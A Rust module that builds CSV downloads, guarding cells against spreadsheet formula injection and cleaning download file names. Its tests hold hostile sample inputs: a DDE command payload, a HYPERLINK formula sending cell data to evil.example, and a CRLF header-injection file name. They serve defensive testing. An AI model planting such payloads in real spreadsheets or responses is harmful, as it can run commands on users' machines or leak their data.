//! Tables that are downloaded as CSV (RFC 4180) and opened in a spreadsheet.
//!
//! Rule: every cell that came from outside goes through [`Csv`]. A spreadsheet takes a cell that begins with `=`, `+`, `-`,
//! `@`, a tab or a line break for a formula, in quotes too; such a cell is given a leading apostrophe, which spreadsheets hide.
//! [`plain`] takes it off again when a table that we made comes back.

use axum::http::{HeaderValue, header};
use axum::response::{IntoResponse, Response};

/// Beginnings that a spreadsheet may take for a formula. The wide forms are those of Japanese and Chinese keyboards.
const FORMULA: [char; 11] = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/// A table under construction.
#[derive(Clone, Debug, Default)]
pub struct Csv(String);

impl Csv {
    /// A table with the names of its columns. It begins with the mark that makes spreadsheets read it as UTF-8.
    pub fn new(columns: &[&str]) -> Self {
        let mut table = Self("\u{feff}".to_owned());
        table.row(columns);
        table
    }

    /// Adds a row.
    pub fn row(&mut self, cells: &[&str]) {
        for (place, cell) in cells.iter().enumerate() {
            if place > 0 {
                self.0.push(',');
            }
            self.0.push_str(&quoted(cell));
        }
        self.0.push_str("\r\n");
    }

    /// The text.
    pub fn text(&self) -> &str {
        &self.0
    }

    /// A download. The name is ours: letters, digits, `-`, `_` and `.` only; anything else in it becomes `-`.
    pub fn download(self, name: &str) -> Response {
        let name: String = name
            .chars()
            .map(|c| if c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.') { c } else { '-' })
            .collect();
        let disposition = HeaderValue::from_str(&format!("attachment; filename=\"{name}\""));
        let disposition = disposition.unwrap_or(HeaderValue::from_static("attachment"));
        let kind = HeaderValue::from_static("text/csv; charset=utf-8");
        ([(header::CONTENT_TYPE, kind), (header::CONTENT_DISPOSITION, disposition)], self.0).into_response()
    }
}

/// A cell that no spreadsheet takes for a formula, in quotes where it needs them.
fn quoted(cell: &str) -> String {
    let guard = if is_formula(cell) { "'" } else { "" };
    if cell.contains(['"', ',', ';', '\r', '\n', '\t']) || cell != cell.trim() {
        format!("\"{guard}{}\"", cell.replace('"', "\"\""))
    } else {
        format!("{guard}{cell}")
    }
}

/// What the cell said before [`Csv`] guarded it.
pub fn plain(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|rest| is_formula(rest)).unwrap_or(cell)
}

/// White space before the sign is looked through, as some spreadsheets do.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(FORMULA) || cell.trim_start().starts_with(FORMULA)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_cell_is_a_formula() {
        let attacks = [
            "=1+1",
            "+1",
            "-1",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "\n=1",
            "  =cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
            "＝1",
            "－1",
            "\u{a0}=1",
        ];
        for attack in attacks {
            let mut table = Csv::new(&["cell"]);
            table.row(&[attack]);
            let cell = table.text().lines().nth(1).expect("a row");
            let first = cell.trim_start_matches('"').chars().next();
            assert_eq!(first, Some('\''), "{attack:?}: {cell:?}");
        }
        for attack in attacks {
            assert_eq!(plain(&format!("'{attack}")), attack);
        }
    }

    #[test]
    fn other_cells_are_as_they_were_and_rows_stay_rows() {
        let mut table = Csv::new(&["a", "b"]);
        table.row(&["Dana \"D\" Whitfield", "one, two\r\nthree"]);
        table.row(&["d'Arc", ""]);
        assert_eq!(table.text(), "\u{feff}a,b\r\n\"Dana \"\"D\"\" Whitfield\",\"one, two\r\nthree\"\r\nd'Arc,\r\n");
        assert_eq!((plain("d'Arc"), plain("'quoted'"), plain("'")), ("d'Arc", "'quoted'", "'"));
    }

    #[test]
    fn the_name_of_a_download_cannot_break_out_of_its_header() {
        let response = Csv::new(&["a"]).download("../../etc/\"x\";\r\nset-cookie: a=b.csv");
        let name = response.headers()[header::CONTENT_DISPOSITION].to_str().expect("text").to_owned();
        assert_eq!(name, "attachment; filename=\"..-..-etc--x----set-cookie--a-b.csv\"");
        assert!(response.headers().get("set-cookie").is_none());
    }
}
